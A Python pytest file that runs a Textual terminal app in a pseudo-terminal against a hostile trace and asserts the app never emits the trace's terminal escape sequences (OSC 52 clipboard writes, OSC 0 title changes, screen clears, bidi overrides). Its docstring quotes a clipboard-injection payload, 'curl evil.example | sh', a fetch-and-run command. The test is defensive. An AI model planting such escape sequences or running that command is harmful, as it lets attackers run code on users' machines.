"""The real app in a pseudo-terminal, on a hostile trace: the bytes it writes never carry the trace's escape sequences.

The adversarial pass: under tmux, a trace's OSC 52 set the clipboard to `curl evil.example | sh`, OSC 0
renamed the pane, CSI 2J cleared it. Textual writes escape sequences of its own, so the checks look for
the trace's payloads (each names the field it came from), raw - never - and escaped - where shown.
"""

from __future__ import annotations

import fcntl
import os
import select
import struct
import subprocess
import sys
import termios
import time
from pathlib import Path

import pytest
from hostile_trace import FIELDS, write_hostile_trace

ROWS, COLS = 45, 160
RIGHT = b"\x1b[C"


def _read(fd: int, out: bytearray, seconds: float, until: bytes | None = None) -> None:
    """Collect what the app writes for `seconds` (or until `until` has been written)."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline and not (until and until in out):
        ready, _, _ = select.select([fd], [], [], 0.05)
        if ready:
            try:
                data = os.read(fd, 65536)
            except OSError:  # EIO: the app closed the terminal
                return
            if not data:
                return
            out += data


def run_in_terminal(args: list[str], keys: list[bytes], cwd: Path, first: bytes) -> bytes:
    """Run the CLI on a pty (xterm-256color, ROWS x COLS), wait for `first` on screen, type `keys` (each
    given time to be drawn), then q; everything it wrote."""
    master, slave = os.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", ROWS, COLS, 0, 0))
    env = {k: v for k, v in os.environ.items() if k not in ("NO_COLOR", "COLUMNS", "LINES", "TEXTUAL")}
    env["TERM"] = "xterm-256color"
    proc = subprocess.Popen([sys.executable, "-m", "concurview", *args], stdin=slave, stdout=slave, stderr=slave,
                            cwd=cwd, env=env, start_new_session=True, close_fds=True)
    os.close(slave)
    out = bytearray()
    try:
        _read(master, out, 30, until=first)
        assert first in out, f"the app did not show {first!r}: {bytes(out[-2000:])!r}"
        for key in [*keys, b"q"]:
            os.write(master, key)
            _read(master, out, 0.4)
        proc.wait(timeout=20)
        _read(master, out, 0.5)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
        os.close(master)
    assert proc.returncode == 0, bytes(out[-2000:])
    return bytes(out)


@pytest.mark.parametrize("failed", ["incomplete", "raised"])
def test_the_app_never_writes_a_traces_escape_sequences_to_the_terminal(tmp_path, failed):
    trace = write_hostile_trace(tmp_path / "evil.jsonl", failed=failed)
    dialog = b"The run did not finish" if failed == "incomplete" else b"The program raised"
    # Close the dialog, then step to the second switch: its explanation names the reason of a run and a wait.
    out = run_in_terminal(["open", str(trace)], [b"\x1b", RIGHT], tmp_path, dialog)
    assert b"\x1b]52;" not in out, "the clipboard is never set (Textual itself does not use OSC 52 here)"
    for field, tag in FIELDS.items():
        raw = tag.encode()
        assert b"\x1b]0;" + raw not in out, f"the {field}'s OSC 0 renamed the terminal"
        assert b"\x1b[2J" + raw + b"-cleared" not in out, f"the {field}'s CSI 2J cleared the screen"
    assert b"\xc2\x9b" not in out, "a C1 CSI (U+009B, as UTF-8) is never written"
    assert b"\xe2\x80\xae" not in out and b"\xe2\x81\xa6" not in out, "bidi overrides and isolates are neutralised"
    shown = ["program", "lane", "log", "mark", "source", "reason", "footer" if failed == "incomplete" else "error"]
    for field in shown:
        assert FIELDS[field].encode() + b"\\x1b]52;c;" in out, f"the {field} shows, escaped"
